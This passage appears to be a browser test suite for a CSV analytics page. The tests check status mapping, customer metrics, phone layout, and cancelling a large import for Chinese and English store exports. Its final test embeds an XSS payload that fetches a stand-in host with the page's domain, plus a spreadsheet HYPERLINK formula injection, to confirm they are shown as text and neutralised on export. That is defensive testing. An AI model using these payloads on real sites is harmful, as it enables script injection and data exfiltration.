      assert.equal(await page.locator('#data-map-statuses-note').textContent(), m['data.map.statusesAll']);
      assert.equal(await page.locator('#data-unused-counts').textContent(),
        m['data.unused.counts'].replace('{excluded}', fmt.count(e.rowsExcludedByStatus)).replace('{skipped}', fmt.count(0)).replace('{rejected}', fmt.count(0)));
      const metric = (key) => page.locator(`#data-customers [data-metric="${key}"] dd`).textContent();
      assert.equal(await metric('count'), fmt.count(e.customers));
      assert.equal(await metric('averageOrderValue'), fmt.money(e.aov));
      // How the numbers were counted, in Chinese: the payment date, the status and the refunds.
      const conventions = await page.locator('#data-conventions-list li').allTextContents();
      assert.ok(conventions.some((c) => c.includes('订单付款时间')), conventions.join(' | '));
      assert.ok(conventions.some((c) => c.includes('退款金额')), conventions.join(' | '));
      // Changing a class analyses the file again: 交易关闭 counted makes more orders.
      // 交易关闭 orders refunded in full (退款金额 = 买家应付货款) stay out: refunded, no purchase.
      const header = text.split(/\r?\n/)[0].split(',').map((h) => h.replaceAll('"', '').trim());
      const at = (n) => header.indexOf(n);
      const closed = rows.map((line) => line.split(',')).filter((f) => f[10] === '交易关闭'
        && !(Number(f[at('退款金额')]) > 0 && Number(f[at('退款金额')]) >= Number(f[at('买家应付货款')]))).length;
      await page.locator('select.data-status-class[data-value="交易关闭"]').selectOption('counted');
      await eventually(async () => assert.equal(await page.locator('select.data-status-class[data-value="交易关闭"]').inputValue(), 'counted'));
      await eventually(async () => assert.equal(await page.locator('#data-unused-counts').textContent(),
        m['data.unused.counts'].replace('{excluded}', fmt.count(e.rowsExcludedByStatus - closed)).replace('{skipped}', fmt.count(0)).replace('{rejected}', fmt.count(0))));
    });
  });

  test('English exports (Shopify, WooCommerce, Stripe, SurveyMonkey): status values with their rows in the mapping step, the status, refund and date columns chosen, the oracle\'s numbers on screen', async () => {
    const m = MESSAGES.en;
    const fmt = makeFormat('en', 'USD');
    /**
     * Every value of the column `header` with its rows, read by the page's CSV module. A Shopify
     * line item after an order's first row has its order's status (`order`: the order column).
     */
    const valueRows = (text, header, order) => {
      const rows = parseCsv(text.replace(/^\ufeff/, ''));
      const at = rows[0].indexOf(header);
      const orderAt = order ? rows[0].indexOf(order) : -1;
      const counts = {};
      let previous = { order: null, status: '' };
      for (const r of rows.slice(1)) {
        if (r.length < 2) continue;
        let status = (r[at] ?? '').trim();
        if (!status && orderAt >= 0 && r[orderAt] === previous.order) status = previous.status;
        previous = { order: orderAt >= 0 ? r[orderAt] : null, status };
        const v = status || m['data.statuses.empty'];
        counts[v] = (counts[v] ?? 0) + 1;
      }
      return Object.fromEntries(Object.entries(counts).map(([k, v]) => [k, fmt.count(v)]));
    };
    const shownStatuses = async (page, table) => {
      const values = await column(page, table, m['data.statuses.value']);
      const rows = await column(page, table, m['data.statuses.rows']);
      return Object.fromEntries(values.map((v, i) => [v, rows[i]]));
    };
    const files = [
      { name: 'shopify-orders.csv', status: 'Financial Status', order: 'Name', roles: { 'Financial Status': 'status', 'Refunded Amount': 'refund', 'Paid at': 'date', 'Created at': 'ignore', Subtotal: 'amount' } },
      { name: 'woocommerce-orders.csv', status: 'status', reclass: 'on-hold', roles: { status: 'status', paid_date: 'date', order_date: 'ignore' } },
      { name: 'stripe-subscriptions.csv', status: 'Status', roles: { Status: 'status', Interval: 'interval', 'Cancel At Period End': 'cancelAtPeriodEnd', Coupon: 'coupon' } },
      { name: 'surveymonkey-nps.csv', roles: { 'End Date': 'date' } },
    ];
    await withPage('en', async (page) => {
      for (const f of files) {
        const bytes = await readFile(new URL(`../data/exports/${f.name}`, import.meta.url));
        const text = new TextDecoder().decode(bytes);
        const e = expectedFor(f.name); // the oracle: its own reader and a few lines of logic, never the core
        await dropFile(page, f.name, bytes);
        await eventually(async () => assert.match(await page.locator('#data-map-source').textContent(), new RegExp(f.name.replace('.', '\\.'))));
        const roles = await rolesOnScreen(page);
        const names = (await page.locator('#data-columns-body th').allTextContents()).map((n) => n.trim());
        for (const [name, role] of Object.entries(f.roles)) assert.equal(roles[names.indexOf(name)], role, `${f.name}: ${name}`);
        if (f.status) {
          // The mapping step: every value of the status column with its rows (the whole file).
          assert.equal(await page.locator('#data-map-statuses').isVisible(), true, `${f.name}: statuses in the mapping step`);
          assert.deepEqual(await shownStatuses(page, 'data-map-statuses-table'), valueRows(text, f.status, f.order), `${f.name}: status values and rows`);
          assert.equal(await page.locator('#data-map-statuses-note').textContent(), m['data.map.statusesAll']);
        } else {
          assert.equal(await page.locator('#data-map-statuses').isHidden(), true, `${f.name}: no status column, no statuses`);
        }
        await analyse(page);
        if (e.kind === 'orders') {
          const metric = (key) => page.locator(`#data-customers [data-metric="${key}"] dd`).textContent();
          assert.equal(await metric('count'), fmt.count(e.customers), `${f.name}: customers`);
          assert.equal(await metric('averageOrderValue'), fmt.money(e.aov), `${f.name}: average order value`);
          assert.deepEqual(await shownStatuses(page, 'data-statuses-table'), valueRows(text, f.status, f.order), `${f.name}: the results' statuses`);
          if (f.reclass) {
            // A class changed in the mapping step goes with the next analysis.
            const unused = (excluded) => m['data.unused.counts'].replace('{excluded}', fmt.count(excluded)).replace('{skipped}', fmt.count(0)).replace('{rejected}', fmt.count(0));
            assert.equal(await page.locator('#data-unused-counts').textContent(), unused(e.rowsExcludedByStatus));
            await page.locator(`#data-map-statuses-body select[data-value="${f.reclass}"]`).selectOption('counted');
            await analyse(page);
            const moved = Number(valueRows(text, f.status)[f.reclass]);
            await eventually(async () => assert.equal(await page.locator('#data-unused-counts').textContent(), unused(e.rowsExcludedByStatus - moved)));
            assert.equal(await page.locator(`select.data-status-class[data-value="${f.reclass}"]`).inputValue(), 'counted');
          }
        } else if (e.kind === 'subscriptions') {
          const labels = await column(page, 'data-periods-table', m['data.col.period']);
          const mrr = await column(page, 'data-periods-table', m['data.col.mrr']);
          const paying = await column(page, 'data-periods-table', m['data.col.E']);
          for (const month of e.months) {
            const i = labels.indexOf(month.month);
            assert.ok(i >= 0, `${month.month} on screen`);
            assert.equal(mrr[i], fmt.money(month.mrr), `${f.name}: MRR at the end of ${month.month}`);
            assert.equal(paying[i], fmt.count(month.payingCustomers), `${f.name}: paying customers at the end of ${month.month}`);
          }
          assert.equal(await page.locator('#data-statuses .data-block-head h4').textContent(), m['data.statuses.titleSub']);
          const warnings = await page.locator('#data-warnings').innerText();
          assert.match(warnings, /1 subscriptions have a coupon in “Coupon” without its value/);
        } else {
          assert.equal(await page.locator('#data-nps [data-metric="nps"] dd').textContent(), fmt.points(e.nps), `${f.name}: NPS`);
        }
      }
    });
  });

  test('on a 375 px phone every control of the mapping step is inside the viewport, in both languages', async () => {
    // The column meanings and the status classes are what a user must touch: a control beyond
    // the right edge (inside a table that scrolls sideways) is one they do not see.
    const bytes = await readFile(new URL('../data/exports/shopify-orders.csv', import.meta.url));
    for (const lang of ['en', 'zh-CN']) {
      await withPage(lang, async (page) => {
        await dropFile(page, 'shopify-orders.csv', bytes);
        await rolesOnScreen(page);
        await page.locator('#data-map-statuses').waitFor({ state: 'visible' });
        const outside = await page.evaluate(() => [...document.querySelectorAll('#data-map select, #data-map input, #data-map button')]
          .filter((e) => e instanceof HTMLElement && e.offsetParent !== null)
          .map((e) => ({ id: e.id || /** @type {any} */ (e).name, box: e.getBoundingClientRect() }))
          .filter(({ box }) => box.left < 0 || box.right > window.innerWidth)
          .map(({ id, box }) => `${id}: ${Math.round(box.left)}–${Math.round(box.right)}`));
        assert.deepEqual(outside, [], `${lang}: controls outside the 375 px viewport`);
        assert.ok(await page.locator('#data-columns-body select').count() > 70, 'every column has its select');
        assert.equal(await page.evaluate(() => document.documentElement.scrollWidth), 375, 'the page itself does not scroll sideways');
        await page.screenshot({ path: new URL(`data-mapping-375-${lang}.png`, OUTPUT).pathname, fullPage: false });
      }, { viewport: { width: 375, height: 800 } });
    }
  });

  test('the sample data, pasted text, and a cancelled 300,000-row file followed by a new analysis', async () => {
    const rc = await rcPromise;
    const fmt = makeFormat('en', 'USD');
    await withPage('en', async (page) => {
      // Sample: generated in the worker, analysed at once; the same bytes analysed here agree.
      await page.click('#data-sample');
      await resultsDrawn(page);
      const sample = await rc.analyze(sampleOrdersCsv(), { period: 'month' });
      await expectPeriods(page, 'en', fmt, sample);
      await expectRejections(page, 'en', fmt, sample);
      assert.equal(await page.locator('#data-kind').inputValue(), 'orders', 'the mapping step shows what was used');
      // Sent to the simulator through the documented link keys.
      await page.click('[data-use="scenario"]');
      // The link keys land in the address's fragment (never sent to a server).
      const params = new URLSearchParams(new URL(page.url()).hash.slice(1).replace(/^[^=&]*&/, ''));
      for (const key of ['sc-start', 'sc-new', 'sc-revenue']) {
        assert.equal(await page.locator(`#${key}`).inputValue(), params.get(key), key);
      }
      // The sample spans 2023-01-02 to 2024-12-31: under 24 months, so no annual retention is sent
      // (the simulator keeps its own); the base is the customers who bought in the last 12 months.
      assert.equal(params.get('sc-crr'), null, 'no short-window CRR compounded into a year');
      const sampleRows = sampleOrdersCsv().trim().split('\n').slice(1).map((line) => line.split(','));
      // Its two bad rows (an empty id, 2024-01-32) are no purchases.
      const good = sampleRows.filter((r) => r[1] && !Number.isNaN(Date.parse(`${r[2]}T00:00:00Z`)) && new Date(`${r[2]}T00:00:00Z`).toISOString().startsWith(r[2]));
      const last = new Set(good.filter((r) => r[2] >= '2024-01-01').map((r) => r[1]));
      assert.equal(Number(params.get('sc-start')), last.size, 'customers active in the last 12 months');

      // Paste.
      const counts = (await fixture('period-counts.csv')).toString('utf8');
      await page.locator('#data-paste-box summary').click();
      await page.locator('#data-paste').fill(counts);
      await page.click('#data-paste-go');
      await rolesOnScreen(page);
      assert.equal(await page.locator('#data-map-source').textContent(), 'File: the pasted text');
      await analyse(page);
      const ca = await rc.analyze(counts, optionsFrom(await rc.inspect(counts)));
      await expectPeriods(page, 'en', fmt, ca);

      // A large file generated in the page, cancelled while it is read, then analysed again.
      const rows = 300_000;
      const dataTransfer = await page.evaluateHandle((rows) => {
        const parts = ['customer_id,order_date,amount\n'];
        for (let i = 0; i < rows; i++) {
          const m = 1 + (i % 12);
          const d = 1 + (i % 28);
          parts.push(`C${(i * 7919) % 40000},2023-${m < 10 ? '0' : ''}${m}-${d < 10 ? '0' : ''}${d},${(10 + (i % 90)).toFixed(2)}\n`);
        }
        const dt = new DataTransfer();
        dt.items.add(new File(parts, 'big.csv', { type: 'text/csv' }));
        return dt;
      }, rows);
      for (const type of ['dragenter', 'dragover', 'drop']) await page.dispatchEvent('#drop-zone', type, { dataTransfer });
      await rolesOnScreen(page);
      // Cancel right after starting, as a person pressing Cancel would, only faster: deterministic.
      await page.evaluate(() => {
        document.getElementById('data-analyse').click();
        document.getElementById('data-cancel').click();
      });
      await eventually(async () => assert.equal(await page.locator('#data-status').textContent(), MESSAGES.en['data.status.cancelled']));
      assert.ok(await page.locator('#data-progress').isHidden());
      assert.ok(await page.locator('#data-results').isHidden(), 'no result from the cancelled run');
      // The worker is free again: the same file analysed to the end.
      await analyse(page);
      assert.equal(
        await page.locator('#data-totals').textContent(),
        totalsText('en', fmt, { rows: { read: rows, used: rows, excluded: 0, skipped: 0, rejected: 0 } }),
      );
    });
  });

  test('markup and formulas in a file are shown as text, run nowhere, and exported neutralised', async () => {
    const evil = '<img src=x onerror="fetch(\'http://evil.example/\'+document.domain)">';
    const text = [
      `customer_id,order_date,amount,"${evil.replaceAll('"', '""')}"`,
      `"${evil.replaceAll('"', '""')}",2024-01-03,10.00,a`,
      `"${evil.replaceAll('"', '""')}",2024-02-03,12.00,b`,
      '"=HYPERLINK(""http://evil.example"",""x"")",2024-01-05,20.00,c',
      '"=HYPERLINK(""http://evil.example"",""x"")",2024-03-05,one,d',
      'plain,2024-02-07,5.00,e',
      'plain,2024-03-07,5.00,f',
    ].join('\n');
    await withPage('en', async (page) => {
      await dropFile(page, 'evil<b>.csv', Buffer.from(text));
      await rolesOnScreen(page);
      assert.match(await page.locator('#data-columns-body').innerText(), /<img src=x onerror=/);
      assert.match(await page.locator('#data-map-source').textContent(), /evil<b>\.csv/);
      await analyse(page);
      assert.equal(await page.locator('#data img').count(), 0, 'no element was made from the file');
      assert.equal(await page.locator('#data b').count(), 0);
      const ids = await column(page, 'data-customers-table-table', 'Customer');
      assert.ok(ids.includes(evil), 'the id is shown as written');
      const exported = await downloaded(page, '[data-export="customers-table"]');
      const rows = parseCsv(exported.text.slice(1));
      const cells = rows.slice(1).map((r) => r[0]);
      assert.ok(cells.includes(`'=HYPERLINK("http://evil.example","x")`), cells.join(' | '));
      assert.ok(cells.includes(evil));
      const rejected = await downloaded(page, '#data-unused-download');
      assert.ok(!/(^|,)=HYPERLINK/m.test(rejected.text), 'no cell of the rows not used starts with a formula');
    });
  });
});
